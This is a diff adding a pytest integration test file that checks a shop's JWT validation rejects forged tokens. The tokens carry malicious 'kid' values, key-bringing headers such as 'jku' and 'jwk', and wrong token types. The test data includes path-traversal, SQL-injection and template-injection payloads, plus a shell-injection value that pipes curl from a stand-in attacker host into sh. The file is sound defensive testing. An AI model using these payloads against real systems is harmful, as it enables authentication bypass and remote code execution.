@@ -1,0 +1,112 @@
+"""A token's header names its key; it can't bring one, point to one, or have the shop look where it shouldn't."""
+
+from __future__ import annotations
+
+import hashlib
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests.integration.attacks.forging import LEFT_OUT, Forger, encoded, lets_in
+
+if TYPE_CHECKING:
+    import httpx
+
+OWN_KEY = b"an attacker's own key of 32 byte"
+OWN_JWK = {"kty": "oct", "k": encoded(OWN_KEY), "alg": "HS256"}
+# What a `kid` may be looked up with, and the key that the attacker hopes for.
+HOPES: dict[str, tuple[Any, bytes]] = {
+    "a path to an empty file": ("../../../../../../dev/null", b""),
+    "a path to a known file": ("/proc/sys/kernel/ostype", b"Linux\n"),
+    "a path in Windows": ("..\\..\\..\\windows\\win.ini", b""),
+    "an encoded path": ("%2e%2e%2f%2e%2e%2fdev%2fnull", b""),
+    "a path behind a NUL": ("x\0/../../dev/null", b""),
+    "SQL": ("x' UNION SELECT 'k' -- ", b"k"),
+    "an operator of a query": ({"$ne": ""}, b""),
+    "a shell": ("x; curl https://evil.example.com |sh", b""),
+    "a template": ("{{7*7}}${7*7}", b"49"),
+    "a URL": ("https://evil.example.com/key", OWN_KEY),
+    "a file's URL": ("file:///dev/null", b""),
+    "a data URL": (f"data:application/octet-stream;base64,{encoded(OWN_KEY)}", OWN_KEY),
+    "a secret's name": ("ecommerce/local/jwt/secret", b""),
+    "a member of the secret": ("keys", b""),
+    "another member of the secret": ("current", b""),
+    "an attribute": ("__class__", b""),
+    "a NUL": ("\0", b"\0"),
+    "nothing": ("", b""),
+    "a space": (" ", b""),
+    "null": (None, b""),
+    "true": (True, b""),
+    "zero": (0, b""),
+    "a number": (-1, b""),
+    "a fraction": (1.5, b""),
+    "a list": (["a"], b""),
+    "no kid": (LEFT_OUT, b""),
+    "a huge one": ("k" * 6000, b""),
+    "half a letter": ("\ud800", b""),
+}
+# Members that are not of our headers: those that bring a key or point to one, and those that change how one reads.
+MEMBERS: list[dict[str, Any]] = [
+    {"jku": "https://evil.example.com/jwks.json"},
+    {"jku": "http://127.0.0.1/jwks.json"},
+    {"x5u": "https://evil.example.com/cert.pem"},
+    {"jwk": OWN_JWK},
+    {"jwk": {"kty": "oct", "k": ""}},
+    {"x5c": ["MIIB"]},
+    {"x5c": []},
+    {"x5t": encoded(hashlib.sha256(b"cert").digest()[:20])},
+    {"x5t#S256": encoded(hashlib.sha256(b"cert").digest())},
+    {"crit": ["exp"]},
+    {"crit": []},
+    {"crit": ["b64"], "b64": True},
+    {"crit": ["b64"], "b64": False},
+    {"b64": True},
+    {"b64": False},
+    {"zip": "DEF"},
+    {"cty": "JWT"},
+    {"enc": "A256GCM"},
+    {"p2c": 2_147_483_647, "p2s": "AAAA"},
+    {"epk": {"kty": "EC"}},
+    {"nonce": "x"},
+    {"alg ": "HS256"},
+    {"": ""},
+    {"__proto__": {"alg": "none"}},
+    {"exp": 9_999_999_999},
+]
+TYPES = ["at+jwt", "refresh", "JWE", "JOSE", "jwt", "", None, 1, ["JWT"], {"typ": "JWT"}, LEFT_OUT]
+
+
+def test_the_forgers_own_hand_is_let_in(anonymous: httpx.Client, forger: Forger) -> None:
+    assert lets_in(anonymous, forger.sign(forger.header()))
+
+
+@pytest.mark.parametrize(("kid", "key"), HOPES.values(), ids=HOPES)
+def test_a_forged_kid_finds_no_key(anonymous: httpx.Client, forger: Forger, kid: Any, key: bytes) -> None:
+    for hoped_for in (key, OWN_KEY, forger.key):
+        assert not lets_in(anonymous, forger.sign(forger.header(kid=kid), key=hoped_for))
+
+
+@pytest.mark.parametrize("change", [str.upper, str.title, str.swapcase, "{} ".format, " {}".format, "{}\0".format])
+def test_a_kid_is_no_other_spelling_of_it(anonymous: httpx.Client, forger: Forger, change: Any) -> None:
+    other = change(forger.kid)
+
+    assert lets_in(anonymous, forger.sign(forger.header(kid=other))) == (other == forger.kid)
+
+
+def test_the_kid_of_a_key_is_no_good_for_another_key(anonymous: httpx.Client, forger: Forger) -> None:
+    assert not lets_in(anonymous, forger.sign(key=OWN_KEY))
+    assert not lets_in(anonymous, forger.sign(key=forger.key[::-1]))
+    assert not lets_in(anonymous, forger.sign(key=forger.key + b"\1"))
+
+
+@pytest.mark.parametrize("member", MEMBERS, ids=repr)
+def test_a_header_with_more_than_ours_is_refused_though_its_signature_is_right(
+    anonymous: httpx.Client, forger: Forger, member: dict[str, Any]
+) -> None:
+    assert not lets_in(anonymous, forger.sign(forger.header(**member)))
+    assert not lets_in(anonymous, forger.sign(forger.header(**member), key=OWN_KEY))
+
+
+@pytest.mark.parametrize("named", TYPES, ids=repr)
+def test_a_token_of_another_type_is_refused(anonymous: httpx.Client, forger: Forger, named: object) -> None:
+    assert not lets_in(anonymous, forger.sign(forger.header(typ=named)))
